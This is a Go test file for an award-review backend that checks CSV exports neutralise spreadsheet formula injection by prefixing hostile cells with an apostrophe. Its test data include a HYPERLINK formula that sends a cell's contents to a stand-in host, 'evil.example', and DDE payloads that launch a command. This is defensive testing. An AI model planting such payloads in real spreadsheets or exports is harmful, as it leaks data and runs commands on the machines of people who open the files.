package backend_test

import (
	"path/filepath"
	"strings"
	"testing"

	"qaward/award"
	"qaward/award/sample"
	"qaward/backend"
)

// formulas are names and texts a spreadsheet would run as a formula.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"点击")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// TestCSVExportsNeutraliseFormulas stores hostile names, affiliations,
// reasons and texts directly (no import would let tab or CR in) and
// exports every kind as CSV: no cell starts with a formula character, the
// hostile cells carry a leading apostrophe, and number columns are exact.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	db, d := demo(t)
	c := sample.DemoCycle
	as, rs := d.Applicants, d.Reviewers
	for i := range as {
		as[i].Name = formulas[i%len(formulas)] + as[i].Name
		as[i].Industry = formulas[(i+1)%len(formulas)]
	}
	for i := range rs {
		rs[i].Name = formulas[i%len(formulas)]
		rs[i].Affiliation = formulas[(i+2)%len(formulas)]
	}
	var ss []award.Sheet
	for _, s := range d.Sheets {
		if !s.Submitted {
			continue
		}
		s.Strengths = append([]string(nil), s.Strengths...)
		s.Improvements = append([]string(nil), s.Improvements...)
		for j := range s.Strengths {
			s.Strengths[j], s.Improvements[j] = formulas[j%len(formulas)], formulas[(j+3)%len(formulas)]
		}
		ss = append(ss, s)
	}
	cs := d.Conflicts
	for i := range cs {
		cs[i].Reason = formulas[i%len(formulas)]
	}
	if err := db.PutApplicants("office", c, as); err != nil {
		t.Fatal(err)
	}
	if err := db.PutReviewers("office", c, rs); err != nil {
		t.Fatal(err)
	}
	if err := db.PutSheets("office", c, ss); err != nil {
		t.Fatal(err)
	}
	if err := db.PutConflicts("office", c, cs); err != nil {
		t.Fatal(err)
	}
	b := backend.New(db, backend.Options{})
	dir := t.TempDir()
	for _, kind := range []string{"applicants", "reviewers", "conflicts", "scores", "rankings", "candidates"} {
		stages := []string{""}
		if kind == "rankings" {
			stages = []string{"material", "onsite", "composite"}
		}
		for _, stage := range stages {
			file := filepath.Join(dir, kind+stage+".csv")
			if _, err := b.Export(c, backend.ExportRequest{Kind: kind, Stage: stage, Lang: "en", File: file}); err != nil {
				t.Fatalf("export %s %s: %v", kind, stage, err)
			}
			header, rows := readCSV(t, file)
			if len(rows) == 0 {
				t.Fatalf("%s %s: no rows", kind, stage)
			}
			quoted := 0
			for _, r := range rows {
				for j, cell := range r {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s %s: column %s: cell %q starts with a formula character", kind, stage, header[j], cell)
					}
					for _, f := range formulas {
						if strings.HasPrefix(cell, "'"+f) {
							quoted++
						}
					}
				}
			}
			if quoted == 0 {
				t.Errorf("%s %s: no neutralised cell: %v", kind, stage, rows[0])
			}
		}
	}
	// a number column stays exact
	file := filepath.Join(dir, "material.csv")
	if _, err := b.Export(c, backend.ExportRequest{Kind: "rankings", Stage: "material", Lang: "en", File: file}); err != nil {
		t.Fatal(err)
	}
	header, rows := readCSV(t, file)
	for _, r := range rows {
		if m := findRow(t, header, [][]string{r}, r[1])["material"]; m != "" && (m[0] < '0' || m[0] > '9') {
			t.Errorf("material %q is not a number as written", m)
		}
	}
}
